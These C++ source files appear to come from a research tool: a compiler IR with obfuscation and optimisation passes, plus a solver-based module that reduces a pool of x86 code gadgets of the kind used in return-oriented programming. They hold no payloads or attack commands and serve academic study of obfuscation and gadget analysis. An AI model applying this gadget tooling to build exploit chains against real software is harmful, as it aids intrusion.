#include <vector>

namespace gp::cfg {

namespace {

/// Fold a binary op over runtime (u64) values with exactly the emulated
/// x86 semantics: wraparound arithmetic, shift counts masked `& 63`
/// (64-bit operand form), comparisons signed, results 0/1.
u64 fold_bin(Opcode op, u64 a, u64 b) {
  switch (op) {
    case Opcode::Add: return a + b;
    case Opcode::Sub: return a - b;
    case Opcode::Mul: return a * b;
    case Opcode::And: return a & b;
    case Opcode::Or: return a | b;
    case Opcode::Xor: return a ^ b;
    case Opcode::Shl: return a << (b & 63);
    case Opcode::Shr: return a >> (b & 63);
    case Opcode::Sar:
      return static_cast<u64>(static_cast<i64>(a) >>
                              static_cast<int>(b & 63));
    case Opcode::CmpEq: return a == b;
    case Opcode::CmpNe: return a != b;
    case Opcode::CmpLt: return static_cast<i64>(a) < static_cast<i64>(b);
    case Opcode::CmpLe: return static_cast<i64>(a) <= static_cast<i64>(b);
    case Opcode::CmpGt: return static_cast<i64>(a) > static_cast<i64>(b);
    case Opcode::CmpGe: return static_cast<i64>(a) >= static_cast<i64>(b);
    default: fail("fold_bin: not a foldable binary opcode");
  }
}

bool foldable_bin(Opcode op) {
  switch (op) {
    case Opcode::Add: case Opcode::Sub: case Opcode::Mul: case Opcode::And:
    case Opcode::Or: case Opcode::Xor: case Opcode::Shl: case Opcode::Sar:
    case Opcode::Shr: case Opcode::CmpEq: case Opcode::CmpNe:
    case Opcode::CmpLt: case Opcode::CmpLe: case Opcode::CmpGt:
    case Opcode::CmpGe:
      return true;
    default:
      return false;
  }
}

/// Instructions that must survive even with a dead (or absent) dst.
bool has_side_effects(Opcode op) {
  switch (op) {
    case Opcode::Store: case Opcode::StoreB: case Opcode::Out:
    case Opcode::Call:
      return true;
    default:
      return false;
  }
}

/// Block-local constant propagation: rewrite Copy/ops over known-constant
/// temps into Const. The known-map starts empty at every block, so no
/// cross-block assumptions are ever made (temps are mutable, not SSA).
u64 fold_function(Function& f, OptStats& stats) {
  u64 changed = 0;
  for (Block& blk : f.blocks) {
    std::unordered_map<Temp, u64> known;
    auto lookup = [&](Temp t, u64* out) {
      auto it = known.find(t);
      if (it == known.end()) return false;
      *out = it->second;
      return true;
    };
    for (Instr& in : blk.instrs) {
      u64 a = 0, b = 0;
      switch (in.op) {
        case Opcode::Const:
          known[in.dst] = static_cast<u64>(in.imm);
          continue;
        case Opcode::Copy:
          if (lookup(in.a, &a)) {
            in = Instr::constant(in.dst, static_cast<i64>(a));
            known[in.dst] = a;
            ++stats.folded;
            ++changed;
            continue;
          }
          break;
        case Opcode::Not:
        case Opcode::Neg:
          if (lookup(in.a, &a)) {
            const u64 v = in.op == Opcode::Not ? ~a : ~a + 1;
            in = Instr::constant(in.dst, static_cast<i64>(v));
            known[in.dst] = v;
            ++stats.folded;
            ++changed;
            continue;
          }
          break;
        default:
          if (foldable_bin(in.op) && lookup(in.a, &a) && lookup(in.b, &b)) {
            const u64 v = fold_bin(in.op, a, b);
            in = Instr::constant(in.dst, static_cast<i64>(v));
            known[in.dst] = v;
            ++stats.folded;
            ++changed;
            continue;
          }
          break;
      }
      // Anything else that writes dst produces an unknown value.
      if (in.dst != kNoTemp) known.erase(in.dst);
    }
    // Terminator folding on facts proven inside this block.
    Terminator& t = blk.term;
    u64 sel = 0;
    if (t.kind == Terminator::Kind::Branch && lookup(t.cond, &sel)) {
      t = Terminator::jump(sel != 0 ? t.target : t.fallthrough);
      ++stats.terms_folded;
      ++changed;
    } else if (t.kind == Terminator::Kind::Switch && lookup(t.cond, &sel) &&
               sel < t.table.size()) {
      // In-range only: an out-of-range constant selector keeps its Switch
      // so the compiled bounds check still traps exactly like -O0 would.
      t = Terminator::jump(t.table[sel]);
      ++stats.terms_folded;
      ++changed;
    }
  }
  return changed;
}

void note_read(std::vector<bool>& use, const std::vector<bool>& def, Temp t) {
  if (t != kNoTemp && !def[static_cast<size_t>(t)])
    use[static_cast<size_t>(t)] = true;
}

Temp term_reads(const Terminator& t) {
  return t.kind == Terminator::Kind::Ret ? t.value : t.cond;
}

std::vector<BlockId> successors(const Terminator& t) {
  std::vector<BlockId> s;
  switch (t.kind) {
    case Terminator::Kind::Jump: s.push_back(t.target); break;
    case Terminator::Kind::Branch:
      s.push_back(t.target);
      s.push_back(t.fallthrough);
      break;
    case Terminator::Kind::Switch:
      s.insert(s.end(), t.table.begin(), t.table.end());
      break;
    case Terminator::Kind::Ret: break;
  }
  return s;
}

/// Backward dead-store sweep over compute_liveness. A def whose value can
/// never be read again (on any path) is deleted unless the instruction
/// has side effects.
u64 dse_function(Function& f, OptStats& stats) {
  const size_t nb = f.blocks.size();
  const Liveness lv = compute_liveness(f);

  u64 removed = 0;
  for (size_t b = 0; b < nb; ++b) {
    std::vector<bool> live = lv.live_out[b];
    const Temp tr = term_reads(f.blocks[b].term);
    if (tr != kNoTemp) live[static_cast<size_t>(tr)] = true;
    auto& instrs = f.blocks[b].instrs;
    std::vector<Instr> kept;
    kept.reserve(instrs.size());
    for (size_t i = instrs.size(); i-- > 0;) {
      const Instr& in = instrs[i];
      const bool dead = in.dst != kNoTemp &&
                        !live[static_cast<size_t>(in.dst)] &&
                        !has_side_effects(in.op);
      if (dead) {
        ++removed;
        continue;
      }
      if (in.dst != kNoTemp) live[static_cast<size_t>(in.dst)] = false;
      auto read = [&](Temp t) {
        if (t != kNoTemp) live[static_cast<size_t>(t)] = true;
      };
      read(in.a);
      read(in.b);
      for (const Temp t : in.args) read(t);
      kept.push_back(in);
    }
    if (kept.size() != instrs.size()) {
      instrs.assign(kept.rbegin(), kept.rend());
    }
  }
  stats.dead_removed += removed;
  return removed;
}

}  // namespace

Liveness compute_liveness(const Function& f) {
  const size_t nb = f.blocks.size();
  const size_t nt = static_cast<size_t>(f.num_temps);
  std::vector<std::vector<bool>> use(nb), def(nb);
  Liveness lv;
  lv.live_in.resize(nb);
  lv.live_out.resize(nb);

  for (size_t b = 0; b < nb; ++b) {
    use[b].assign(nt, false);
    def[b].assign(nt, false);
    lv.live_in[b].assign(nt, false);
    lv.live_out[b].assign(nt, false);
    for (const Instr& in : f.blocks[b].instrs) {
      note_read(use[b], def[b], in.a);
      note_read(use[b], def[b], in.b);
      for (const Temp t : in.args) note_read(use[b], def[b], t);
      if (in.dst != kNoTemp) def[b][static_cast<size_t>(in.dst)] = true;
    }
    note_read(use[b], def[b], term_reads(f.blocks[b].term));
  }

  // live_in = use | (live_out & ~def); live_out = U live_in(succ).
  for (bool changed = true; changed;) {
    changed = false;
    for (size_t b = nb; b-- > 0;) {
      for (const BlockId s : successors(f.blocks[b].term))
        for (size_t t = 0; t < nt; ++t)
          if (lv.live_in[static_cast<size_t>(s)][t] && !lv.live_out[b][t]) {
            lv.live_out[b][t] = true;
            changed = true;
          }
      for (size_t t = 0; t < nt; ++t) {
        const bool in_ = use[b][t] || (lv.live_out[b][t] && !def[b][t]);
        if (in_ && !lv.live_in[b][t]) {
          lv.live_in[b][t] = true;
          changed = true;
        }
      }
    }
  }
  return lv;
}

OptStats optimize(Program& p) {
  OptStats stats;
  for (Function& f : p.functions) {
    // Folding exposes dead defs; a removed def never re-enables folding
    // (folding is forward, DSE only deletes), so the fixpoint is fast. The
    // round bound is a safety net, not a tuning knob.
    for (int round = 0; round < 8; ++round) {
      u64 changed = fold_function(f, stats);
      changed += dse_function(f, stats);
      if (changed == 0) break;
    }
  }
  return stats;
}

}  // namespace gp::cfg
