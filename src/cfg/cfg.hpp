// Three-address CFG IR shared by the mini-C frontend, the obfuscation
// passes, and the x86 code generator. This is the layer where the paper's
// obfuscators (Obfuscator-LLVM on LLVM IR, Tigress on C) do their work.
//
// Model:
//  - unlimited mutable virtual temps (not SSA; each maps to a frame slot);
//  - a per-function byte-addressed frame for arrays (FrameAddr);
//  - a global data section for literals and tables (GlobalAddr);
//  - functions take up to 6 integer params (SysV-style register passing);
//  - terminators: Jump / Branch / Switch (computed, used by flattening and
//    the VM dispatcher) / Ret.
#pragma once

#include <string>
#include <vector>

#include "support/common.hpp"

namespace gp::cfg {

enum class Opcode : u8 {
  Const,   // dst = imm
  Copy,    // dst = a
  Add, Sub, Mul, And, Or, Xor, Shl, Sar, Shr,  // dst = a op b
  Not, Neg,                                     // dst = op a
  CmpEq, CmpNe, CmpLt, CmpLe, CmpGt, CmpGe,     // dst = a cmp b (signed, 0/1)
  Load,    // dst = *(i64*)(a + imm)
  LoadB,   // dst = *(u8*)(a + imm), zero-extended
  Store,   // *(i64*)(a + imm) = b
  StoreB,  // *(u8*)(a + imm) = (u8)b
  FrameAddr,   // dst = &frame[imm]
  GlobalAddr,  // dst = &data[imm]
  Call,    // dst = functions[imm](args...)
  Out,     // emit the 8 bytes of temp a to the program output stream
};

bool is_binop(Opcode op);
bool is_cmp(Opcode op);
const char* opcode_name(Opcode op);

using Temp = i32;
constexpr Temp kNoTemp = -1;

struct Instr {
  Opcode op = Opcode::Const;
  Temp dst = kNoTemp;
  Temp a = kNoTemp;
  Temp b = kNoTemp;
  i64 imm = 0;
  std::vector<Temp> args;  // Call only

  static Instr constant(Temp dst, i64 v) {
    return {.op = Opcode::Const, .dst = dst, .imm = v};
  }
  static Instr bin(Opcode op, Temp dst, Temp a, Temp b) {
    return {.op = op, .dst = dst, .a = a, .b = b};
  }
};

using BlockId = i32;

struct Terminator {
  enum class Kind : u8 { Jump, Branch, Switch, Ret } kind = Kind::Ret;
  Temp cond = kNoTemp;        // Branch (non-zero = taken) / Switch selector
  BlockId target = 0;         // Jump / Branch taken
  BlockId fallthrough = 0;    // Branch not-taken
  std::vector<BlockId> table; // Switch: selector indexes this table
  Temp value = kNoTemp;       // Ret
  /// Switch only: producer-declared selector bound. Non-zero means the
  /// producer guarantees every runtime selector value lies in
  /// [0, sel_bound) by construction of the program — the virtualizer
  /// declares this for its opcode dispatch, whose bytecode and handler
  /// table it generates together (the same trusted lowering a generated
  /// interpreter's computed-goto dispatch relies on). The verifier
  /// rejects declarations wider than the table.
  i64 sel_bound = 0;

  static Terminator jump(BlockId t) {
    return {.kind = Kind::Jump, .target = t};
  }
  static Terminator branch(Temp c, BlockId t, BlockId f) {
    return {.kind = Kind::Branch, .cond = c, .target = t, .fallthrough = f};
  }
  static Terminator ret(Temp v) {
    return {.kind = Kind::Ret, .value = v};
  }
  static Terminator make_switch(Temp sel, std::vector<BlockId> table) {
    return {.kind = Kind::Switch, .cond = sel, .table = std::move(table)};
  }
};

struct Block {
  std::vector<Instr> instrs;
  Terminator term;
};

struct Function {
  std::string name;
  int num_params = 0;      // params are temps 0..num_params-1
  int num_temps = 0;       // >= num_params
  i64 frame_bytes = 0;     // array/scratch area addressed by FrameAddr
  std::vector<Block> blocks;
  BlockId entry = 0;

  Temp new_temp() { return num_temps++; }
  BlockId new_block() {
    blocks.emplace_back();
    return static_cast<BlockId>(blocks.size()) - 1;
  }
};

struct Program {
  std::vector<Function> functions;
  std::vector<u8> data;    // initial contents of the data section
  int main_index = -1;

  int find_function(const std::string& name) const;
  /// Append bytes to the data section, returning their offset.
  i64 add_data(const std::vector<u8>& bytes);
  i64 add_data_string(const std::string& s);  // NUL-terminated
  /// Reserve zero-initialized data space.
  i64 add_data_zeros(size_t n);
};

/// Structural validation: temps in range, block targets in range, call
/// indices valid, exactly one main. Also rejects switch terminators whose
/// selector is statically guaranteed out of range (every reaching value a
/// constant, at least one outside the table). Throws gp::Error with a
/// description.
void verify(const Program& p);

/// Is `term` (a Switch) selector provably within [0, table.size()) on
/// every path? Conservative dataflow over the selector's definitions:
/// each def must be an in-range constant or the `base + bool * delta`
/// arithmetic select the flattening pass builds (both outcomes in range);
/// selectors that are parameters, loads, or anything else unrecognized
/// are not provable. Codegen omits the runtime dispatch bounds check
/// exactly when this returns true — mirroring a real compiler's
/// value-range analysis eliding the check on compiler-generated jump
/// tables.
bool switch_selector_bounded(const Function& f, const Terminator& term);

/// Human-readable dump (tests and debugging).
std::string to_string(const Program& p);

}  // namespace gp::cfg
