// CFG-IR cleanup passes behind codegen's -O1/-O2: block-local constant
// propagation + folding (semantics bit-for-bit identical to the emulator's
// x86: 64-bit wraparound, shift counts masked to 6 bits, signed compares),
// terminator folding (constant branch/switch selectors become jumps), and
// global liveness-based dead-store elimination over the mutable temps.
//
// The passes run obfuscate-then-optimize (see DESIGN.md "Optimizer pass
// ordering"): they see the obfuscated IR, the way OLLVM's passes feed the
// rest of the LLVM pipeline. They never remove blocks — a junk block made
// unreachable by folding still gets emitted, like a linker keeping a
// section nothing references out of a compilation unit that does.
#pragma once

#include "cfg/cfg.hpp"

namespace gp::cfg {

struct OptStats {
  u64 folded = 0;           // instrs rewritten to Const
  u64 dead_removed = 0;     // side-effect-free instrs with a dead dst
  u64 terms_folded = 0;     // Branch/Switch on a constant -> Jump
};

/// Per-block temp liveness (backward dataflow fixpoint). Shared by the
/// dead-store sweep here and codegen's -O2 linear-scan interval builder.
struct Liveness {
  std::vector<std::vector<bool>> live_in;   // [block][temp]
  std::vector<std::vector<bool>> live_out;  // [block][temp]
};
Liveness compute_liveness(const Function& f);

/// Run constant folding + dead-store elimination to a fixpoint (bounded).
/// Deterministic, and the result passes cfg::verify. Behavioral identity
/// across levels is property-tested in tests/test_codegen_opt.cpp.
OptStats optimize(Program& p);

}  // namespace gp::cfg
