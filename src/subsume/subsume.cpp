#include "subsume/subsume.hpp"

#include <algorithm>
#include <atomic>
#include <memory>
#include <unordered_map>

#include "support/metrics.hpp"
#include "support/rng.hpp"
#include "support/thread_pool.hpp"
#include "support/trace.hpp"

namespace gp::subsume {

using gadget::Record;
using solver::ExprRef;

namespace {

/// Randomized refutation: try to falsify "pre -> claim" on sampled points.
/// Returns true if a counterexample was found (so the implication is
/// definitely false and the solver call can be skipped); false means
/// "inconclusive, ask the solver". Obfuscated pools are dominated by pairs
/// that differ, so this filter removes almost all bit-blasting.
bool refuted_by_sampling(solver::Context& ctx, ExprRef pre, ExprRef claim) {
  Rng rng(0x5eedULL ^ (static_cast<u64>(pre) << 32) ^ claim);
  std::vector<ExprRef> vars = ctx.variables(pre);
  for (const ExprRef v : ctx.variables(claim)) vars.push_back(v);
  std::sort(vars.begin(), vars.end());
  vars.erase(std::unique(vars.begin(), vars.end()), vars.end());
  std::unordered_map<ExprRef, u64> env;
  for (int trial = 0; trial < 12; ++trial) {
    for (const ExprRef v : vars) {
      // Mix small structured values with full-width noise.
      switch (rng.below(4)) {
        case 0: env[v] = rng.below(4); break;
        case 1: env[v] = 0; break;
        default: env[v] = rng.next(); break;
      }
    }
    if (ctx.eval(pre, env) != 1) continue;  // sample misses the premise
    if (ctx.eval(claim, env) != 1) return true;
  }
  return false;
}

/// Conjunction of a pre-condition list (width-1 expr).
ExprRef conj(solver::Context& ctx, const std::vector<ExprRef>& cs) {
  ExprRef acc = ctx.t();
  for (const ExprRef c : cs) acc = ctx.band(acc, c);
  return acc;
}

/// Cheap bucket fingerprint: gadgets in different buckets can never satisfy
/// post_1 == post_2 (different transfer kind / touched registers / stack
/// shape), so eq. 1 is only ever checked within a bucket.
u64 fingerprint(const Record& r) {
  u64 h = static_cast<u64>(r.end);
  h = h * 1000003 + r.clobbered;
  h = h * 1000003 + r.controlled;
  h = h * 1000003 +
      static_cast<u64>(r.stack_delta ? *r.stack_delta + 4096 : 0xffff);
  h = h * 1000003 + r.writes.size();
  return h;
}

/// Structural post-state equality: identical interned exprs for every
/// clobbered register, the transfer target, and all memory writes.
bool post_equal_structural(solver::Context& ctx, const Record& a,
                           const Record& b) {
  if (a.end != b.end) return false;
  if (a.clobbered != b.clobbered) return false;
  if (a.next_rip != b.next_rip) return false;
  for (int i = 0; i < x86::kNumRegs; ++i)
    if (a.final_regs[i] != b.final_regs[i]) return false;
  if (a.writes.size() != b.writes.size()) return false;
  for (size_t i = 0; i < a.writes.size(); ++i) {
    if (a.writes[i].addr != b.writes[i].addr ||
        a.writes[i].value != b.writes[i].value ||
        a.writes[i].width != b.writes[i].width)
      return false;
  }
  (void)ctx;
  return true;
}

/// Solver-backed post-state equality under the joint pre-conditions.
/// Checked component-by-component with the cheap structural test first, so
/// a mismatch in any single register bails out after one small query — the
/// difference between minutes and milliseconds on obfuscated pools.
bool post_equal_solver(solver::Context& ctx, solver::Solver& solver,
                       const Record& a, const Record& b) {
  if (a.next_rip == solver::kNoExpr || b.next_rip == solver::kNoExpr) {
    if (a.next_rip != b.next_rip) return false;
  }
  if (a.writes.size() != b.writes.size()) return false;
  for (size_t i = 0; i < a.writes.size(); ++i)
    if (a.writes[i].width != b.writes[i].width) return false;

  const ExprRef pre = ctx.band(conj(ctx, a.precond), conj(ctx, b.precond));
  auto equal_under_pre = [&](ExprRef x, ExprRef y) {
    if (x == y) return true;  // interned: structurally identical
    const ExprRef claim = ctx.eq(x, y);
    if (refuted_by_sampling(ctx, pre, claim)) return false;
    // Very large expression pairs that survive sampling are treated as
    // unequal rather than bit-blasted (keeping both gadgets is sound).
    if (ctx.dag_size(x) + ctx.dag_size(y) > 400) return false;
    return solver.prove_implies(pre, claim);
  };

  for (int i = 0; i < x86::kNumRegs; ++i)
    if (!equal_under_pre(a.final_regs[i], b.final_regs[i])) return false;
  if (a.next_rip != solver::kNoExpr &&
      !equal_under_pre(a.next_rip, b.next_rip))
    return false;
  for (size_t i = 0; i < a.writes.size(); ++i) {
    if (!equal_under_pre(a.writes[i].addr, b.writes[i].addr)) return false;
    if (!equal_under_pre(a.writes[i].value, b.writes[i].value)) return false;
  }
  return true;
}

}  // namespace

bool subsumes(solver::Context& ctx, solver::Solver& solver, const Record& g1,
              const Record& g2) {
  // pre_2 -> pre_1 (g1's pre-condition is no stronger than g2's).
  const ExprRef pre1 = conj(ctx, g1.precond);
  const ExprRef pre2 = conj(ctx, g2.precond);
  if (pre1 != ctx.t()) {
    if (refuted_by_sampling(ctx, pre2, pre1)) return false;
    if (!solver.prove_implies(pre2, pre1)) return false;
  }
  if (post_equal_structural(ctx, g1, g2)) return true;
  return post_equal_solver(ctx, solver, g1, g2);
}

namespace {

/// Claim one unit of the shared solver-check budget. Lock-free so worker
/// lanes split one budget without coordination.
bool acquire_check(std::atomic<u64>& checks, u64 max_solver_checks) {
  u64 cur = checks.load(std::memory_order_relaxed);
  while (cur < max_solver_checks) {
    if (checks.compare_exchange_weak(cur, cur + 1,
                                     std::memory_order_relaxed))
      return true;
  }
  return false;
}

/// Winnow one fingerprint bucket to its representatives. `ctx` is the main
/// context in sequential mode or a worker lane's clone in parallel mode
/// (record refs are valid in either; new terms from solver queries land in
/// whichever context is passed). `keep[i]` receives whether the i-th
/// candidate of the (sorted) group survived.
void winnow_group(solver::Context& ctx, std::vector<Record>& group,
                  std::atomic<u64>& checks, u64 max_solver_checks,
                  Stats& stats, std::vector<u8>& keep, Governor* governor) {
  solver::Solver solver(ctx, /*conflict_budget=*/50'000, governor);
  // Prefer shorter gadgets as representatives.
  std::sort(group.begin(), group.end(),
            [](const Record& a, const Record& b) {
              if (a.n_insts != b.n_insts) return a.n_insts < b.n_insts;
              return a.addr < b.addr;
            });
  keep.assign(group.size(), 0);
  // Cleared the first time the budget runs out: from then on this group is
  // winnowed structurally only, with no per-pair budget polling.
  bool solver_ok = max_solver_checks > 0;
  std::vector<const Record*> reps;
  for (size_t i = 0; i < group.size(); ++i) {
    Record& cand = group[i];
    // The governor is polled once per candidate on every lane, so a
    // deadline/cancellation reaches thread-pool workers promptly. Expiry
    // demotes the rest of the group to structural-only mode — never an
    // incorrect removal, at worst a larger surviving pool.
    if (solver_ok && governor) {
      const Status s = governor->poll();
      if (!s.ok()) {
        solver_ok = false;
        stats.budget_exhausted = true;
        stats.status.merge(s);
      }
    }
    bool redundant = false;
    for (const Record* rep : reps) {
      // Fast path first: identical interned post-state and trivially
      // comparable pre-conditions.
      if (post_equal_structural(ctx, *rep, cand) &&
          rep->precond == cand.precond) {
        redundant = true;
        ++stats.structural_hits;
        break;
      }
      if (!solver_ok) continue;  // structural-only mode
      if (!acquire_check(checks, max_solver_checks)) {
        // Budget exhausted: short-circuit to structural-only mode for the
        // rest of this group instead of spinning over every remaining
        // representative re-testing the budget.
        solver_ok = false;
        stats.budget_exhausted = true;
        continue;
      }
      ++stats.solver_checks;
      const u64 unknowns_before = solver.unknowns();
      bool did_subsume = false;
      try {
        did_subsume = subsumes(ctx, solver, *rep, cand);
      } catch (const ResourceExhausted& e) {
        // The expr-node budget died while building the query terms:
        // inconclusive, so keep the candidate and go structural-only.
        solver_ok = false;
        stats.status.merge(e.status());
        break;
      }
      if (solver.unknowns() > unknowns_before) ++stats.solver_unknown;
      if (did_subsume) {
        redundant = true;
        break;
      }
    }
    if (redundant) {
      ++stats.removed;
    } else {
      keep[i] = 1;
      reps.push_back(&cand);
    }
  }
}

}  // namespace

std::vector<Record> minimize(solver::Context& ctx, std::vector<Record> pool,
                             Stats* stats, u64 max_solver_checks,
                             int threads, Governor* governor) {
  Stats local;
  local.input = pool.size();

  std::unordered_map<u64, std::vector<Record>> buckets;
  std::vector<u64> order;  // insertion (= pool) order of fingerprints
  for (Record& r : pool) {
    const u64 fp = fingerprint(r);
    auto [it, fresh] = buckets.try_emplace(fp);
    if (fresh) order.push_back(fp);
    it->second.push_back(std::move(r));
  }
  std::vector<std::vector<Record>*> groups;
  for (const u64 fp : order) groups.push_back(&buckets[fp]);

  std::atomic<u64> checks{0};
  std::vector<std::vector<u8>> keeps(groups.size());

  const int nthreads = ThreadPool::resolve(threads);
  if (nthreads <= 1 || groups.size() <= 1) {
    for (size_t gi = 0; gi < groups.size(); ++gi)
      winnow_group(ctx, *groups[gi], checks, max_solver_checks, local,
                   keeps[gi], governor);
  } else {
    // Work on the biggest buckets first (the pool claims items in index
    // order) so one giant bucket doesn't trail every small one.
    std::vector<u32> by_size(groups.size());
    for (u32 gi = 0; gi < by_size.size(); ++gi) by_size[gi] = gi;
    std::stable_sort(by_size.begin(), by_size.end(), [&](u32 a, u32 b) {
      return groups[a]->size() > groups[b]->size();
    });
    // One context clone per lane (identical refs, private interner), one
    // Solver per bucket, one shared atomic budget across all lanes.
    std::vector<std::unique_ptr<solver::Context>> lane_ctx(
        static_cast<size_t>(nthreads));
    std::vector<Stats> lane_stats(static_cast<size_t>(nthreads));
    ThreadPool::shared().run(
        groups.size(),
        [&](int lane, u64 item) {
          trace::Span span("subsume.bucket", "shard");
          const u32 gi = by_size[item];
          auto& lc = lane_ctx[static_cast<size_t>(lane)];
          if (!lc) lc = std::make_unique<solver::Context>(ctx.clone());
          winnow_group(*lc, *groups[gi], checks, max_solver_checks,
                       lane_stats[static_cast<size_t>(lane)], keeps[gi],
                       governor);
        },
        nthreads);
    for (const Stats& s : lane_stats) local += s;
  }

  // Deterministic assembly: groups in pool order, survivors in each
  // group's sorted order — the same output order as the sequential scan.
  std::vector<Record> kept;
  for (size_t gi = 0; gi < groups.size(); ++gi) {
    std::vector<Record>& group = *groups[gi];
    for (size_t i = 0; i < group.size(); ++i)
      if (keeps[gi][i]) kept.push_back(std::move(group[i]));
  }

  local.kept = kept.size();
  if (metrics::enabled()) {
    metrics::Registry& reg = metrics::registry();
    reg.counter("subsume.input").add(local.input);
    reg.counter("subsume.removed").add(local.removed);
    reg.counter("subsume.solver_checks").add(local.solver_checks);
    reg.counter("subsume.structural_hits").add(local.structural_hits);
    reg.counter("subsume.solver_unknown").add(local.solver_unknown);
    reg.histogram("subsume.pool_kept").observe(local.kept);
  }
  if (stats) *stats = local;
  return kept;
}

}  // namespace gp::subsume
