#include "subsume/subsume.hpp"

#include <algorithm>
#include <unordered_map>

#include "support/rng.hpp"

namespace gp::subsume {

using gadget::Record;
using solver::ExprRef;

namespace {

/// Randomized refutation: try to falsify "pre -> claim" on sampled points.
/// Returns true if a counterexample was found (so the implication is
/// definitely false and the solver call can be skipped); false means
/// "inconclusive, ask the solver". Obfuscated pools are dominated by pairs
/// that differ, so this filter removes almost all bit-blasting.
bool refuted_by_sampling(solver::Context& ctx, ExprRef pre, ExprRef claim) {
  Rng rng(0x5eedULL ^ (static_cast<u64>(pre) << 32) ^ claim);
  std::vector<ExprRef> vars = ctx.variables(pre);
  for (const ExprRef v : ctx.variables(claim)) vars.push_back(v);
  std::sort(vars.begin(), vars.end());
  vars.erase(std::unique(vars.begin(), vars.end()), vars.end());
  std::unordered_map<ExprRef, u64> env;
  for (int trial = 0; trial < 12; ++trial) {
    for (const ExprRef v : vars) {
      // Mix small structured values with full-width noise.
      switch (rng.below(4)) {
        case 0: env[v] = rng.below(4); break;
        case 1: env[v] = 0; break;
        default: env[v] = rng.next(); break;
      }
    }
    if (ctx.eval(pre, env) != 1) continue;  // sample misses the premise
    if (ctx.eval(claim, env) != 1) return true;
  }
  return false;
}

/// Conjunction of a pre-condition list (width-1 expr).
ExprRef conj(solver::Context& ctx, const std::vector<ExprRef>& cs) {
  ExprRef acc = ctx.t();
  for (const ExprRef c : cs) acc = ctx.band(acc, c);
  return acc;
}

/// Cheap bucket fingerprint: gadgets in different buckets can never satisfy
/// post_1 == post_2 (different transfer kind / touched registers / stack
/// shape), so eq. 1 is only ever checked within a bucket.
u64 fingerprint(const Record& r) {
  u64 h = static_cast<u64>(r.end);
  h = h * 1000003 + r.clobbered;
  h = h * 1000003 + r.controlled;
  h = h * 1000003 +
      static_cast<u64>(r.stack_delta ? *r.stack_delta + 4096 : 0xffff);
  h = h * 1000003 + r.writes.size();
  return h;
}

/// Structural post-state equality: identical interned exprs for every
/// clobbered register, the transfer target, and all memory writes.
bool post_equal_structural(solver::Context& ctx, const Record& a,
                           const Record& b) {
  if (a.end != b.end) return false;
  if (a.clobbered != b.clobbered) return false;
  if (a.next_rip != b.next_rip) return false;
  for (int i = 0; i < x86::kNumRegs; ++i)
    if (a.final_regs[i] != b.final_regs[i]) return false;
  if (a.writes.size() != b.writes.size()) return false;
  for (size_t i = 0; i < a.writes.size(); ++i) {
    if (a.writes[i].addr != b.writes[i].addr ||
        a.writes[i].value != b.writes[i].value ||
        a.writes[i].width != b.writes[i].width)
      return false;
  }
  (void)ctx;
  return true;
}

/// Solver-backed post-state equality under the joint pre-conditions.
/// Checked component-by-component with the cheap structural test first, so
/// a mismatch in any single register bails out after one small query — the
/// difference between minutes and milliseconds on obfuscated pools.
bool post_equal_solver(solver::Context& ctx, solver::Solver& solver,
                       const Record& a, const Record& b) {
  if (a.next_rip == solver::kNoExpr || b.next_rip == solver::kNoExpr) {
    if (a.next_rip != b.next_rip) return false;
  }
  if (a.writes.size() != b.writes.size()) return false;
  for (size_t i = 0; i < a.writes.size(); ++i)
    if (a.writes[i].width != b.writes[i].width) return false;

  const ExprRef pre = ctx.band(conj(ctx, a.precond), conj(ctx, b.precond));
  auto equal_under_pre = [&](ExprRef x, ExprRef y) {
    if (x == y) return true;  // interned: structurally identical
    const ExprRef claim = ctx.eq(x, y);
    if (refuted_by_sampling(ctx, pre, claim)) return false;
    // Very large expression pairs that survive sampling are treated as
    // unequal rather than bit-blasted (keeping both gadgets is sound).
    if (ctx.dag_size(x) + ctx.dag_size(y) > 400) return false;
    return solver.prove_implies(pre, claim);
  };

  for (int i = 0; i < x86::kNumRegs; ++i)
    if (!equal_under_pre(a.final_regs[i], b.final_regs[i])) return false;
  if (a.next_rip != solver::kNoExpr &&
      !equal_under_pre(a.next_rip, b.next_rip))
    return false;
  for (size_t i = 0; i < a.writes.size(); ++i) {
    if (!equal_under_pre(a.writes[i].addr, b.writes[i].addr)) return false;
    if (!equal_under_pre(a.writes[i].value, b.writes[i].value)) return false;
  }
  return true;
}

}  // namespace

bool subsumes(solver::Context& ctx, solver::Solver& solver, const Record& g1,
              const Record& g2) {
  // pre_2 -> pre_1 (g1's pre-condition is no stronger than g2's).
  const ExprRef pre1 = conj(ctx, g1.precond);
  const ExprRef pre2 = conj(ctx, g2.precond);
  if (pre1 != ctx.t()) {
    if (refuted_by_sampling(ctx, pre2, pre1)) return false;
    if (!solver.prove_implies(pre2, pre1)) return false;
  }
  if (post_equal_structural(ctx, g1, g2)) return true;
  return post_equal_solver(ctx, solver, g1, g2);
}

std::vector<Record> minimize(solver::Context& ctx, std::vector<Record> pool,
                             Stats* stats, u64 max_solver_checks) {
  Stats local;
  local.input = pool.size();
  solver::Solver solver(ctx, /*conflict_budget=*/50'000);

  std::unordered_map<u64, std::vector<Record>> buckets;
  for (Record& r : pool) buckets[fingerprint(r)].push_back(std::move(r));

  std::vector<Record> kept;
  u64 checks = 0;
  for (auto& [fp, group] : buckets) {
    // Prefer shorter gadgets as representatives.
    std::sort(group.begin(), group.end(),
              [](const Record& a, const Record& b) {
                if (a.n_insts != b.n_insts) return a.n_insts < b.n_insts;
                return a.addr < b.addr;
              });
    std::vector<Record> reps;
    for (Record& cand : group) {
      bool redundant = false;
      for (const Record& rep : reps) {
        // Fast path first: identical interned post-state and trivially
        // comparable pre-conditions.
        if (post_equal_structural(ctx, rep, cand) &&
            rep.precond == cand.precond) {
          redundant = true;
          ++local.structural_hits;
          break;
        }
        if (checks >= max_solver_checks) continue;
        ++checks;
        ++local.solver_checks;
        if (subsumes(ctx, solver, rep, cand)) {
          redundant = true;
          break;
        }
      }
      if (redundant) {
        ++local.removed;
      } else {
        reps.push_back(std::move(cand));
      }
    }
    for (Record& r : reps) kept.push_back(std::move(r));
  }

  local.kept = kept.size();
  if (stats) *stats = local;
  return kept;
}

}  // namespace gp::subsume
