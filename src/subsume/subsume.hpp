// Subsumption testing (paper Sec. IV-C): winnow the gadget pool to one
// representative per functionality class by checking, for gadget pairs,
//     (pre_2 -> pre_1) AND (post_1 == post_2)                    (eq. 1)
// i.e. g1 does the same thing as g2 under a looser pre-condition, so g2 is
// redundant. Ties (mutual subsumption) keep the shorter gadget.
//
// Pairwise solver checks over tens of thousands of gadgets would be
